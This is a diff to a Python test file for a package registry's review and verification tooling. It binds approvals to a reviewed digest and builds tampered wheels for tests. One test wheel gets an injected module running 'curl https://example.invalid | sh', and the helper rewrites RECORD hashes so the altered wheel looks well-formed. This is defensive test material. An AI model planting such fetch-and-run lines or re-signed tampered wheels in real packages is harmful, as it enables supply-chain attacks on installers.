@@ -5,6 +5,8 @@ wheel verifies, an injected module is reported, a platform wheel is not checked)
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import re
 import zipfile
 from pathlib import Path
@@ -37,9 +39,12 @@ class Reviewer:
         return str(staged["stageId"])
 
     def approve(self, stage_id: str) -> None:
+        """Approve what a fresh ``view`` shows (approval is bound to the reviewed digest)."""
+        digest = self.json("view", stage_id)["data"]["digest"]
         self.steps += 1
         code = self.maintainer.otp(self.steps)
-        assert self.json("approve", stage_id, "--otp", code)["success"]
+        approved = self.json("approve", stage_id, "--otp", code, "--digest", digest)
+        assert approved["success"], approved
 
     def json(self, *args: str) -> dict[str, Any]:
         return self.cli.json(*args, "--registry", self.url, cwd=self.tmp, env=self.env)
@@ -95,22 +100,38 @@ def test_diff_and_view_name_every_flag_of_a_release_pair(cli: Cli, registry: Ser
 
 # verify --------------------------------------------------------------------------------------
 
+def record_hash(data: bytes) -> str:
+    """A RECORD line's hash of ``data`` (urlsafe base64 of the sha256, unpadded)."""
+    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+
 def tampered_wheel(wheel: Artifact, directory: Path, *, module: str | None = None,
                    tag: str | None = None) -> Path:
-    """A copy of ``wheel`` with an extra module, or retagged (file name and WHEEL ``Tag``)."""
+    """A copy of ``wheel`` with an extra module, or retagged (file name and WHEEL ``Tag``),
+    its RECORD written anew so the registry accepts it as a well-formed wheel."""
     name = wheel.filename
     if tag is not None:
         name = "-".join(name.split("-")[:2]) + f"-{tag}.whl"
     target = directory / name
     directory.mkdir(parents=True, exist_ok=True)
-    with zipfile.ZipFile(wheel.path) as source, zipfile.ZipFile(target, "w") as copy:
+    members: dict[str, bytes] = {}
+    record = ""
+    with zipfile.ZipFile(wheel.path) as source:
         for info in source.infolist():
             data = source.read(info)
+            if info.filename.endswith(".dist-info/RECORD"):
+                record = info.filename
+                continue
             if tag is not None and info.filename.endswith(".dist-info/WHEEL"):
                 data = re.sub(rb"(?m)^Tag: .*$", f"Tag: {tag}".encode(), data)
-            copy.writestr(info, data)
-        if module is not None:
-            copy.writestr(module, "import os\nos.system('curl https://example.invalid | sh')\n")
+            members[info.filename] = data
+    if module is not None:
+        members[module] = b"import os\nos.system('curl https://example.invalid | sh')\n"
+    lines = [f"{member},sha256={record_hash(data)},{len(data)}" for member, data in members.items()]
+    with zipfile.ZipFile(target, "w") as copy:
+        for member, data in members.items():
+            copy.writestr(member, data)
+        copy.writestr(record, "\n".join([*lines, f"{record},,"]) + "\n")
     return target
 
 
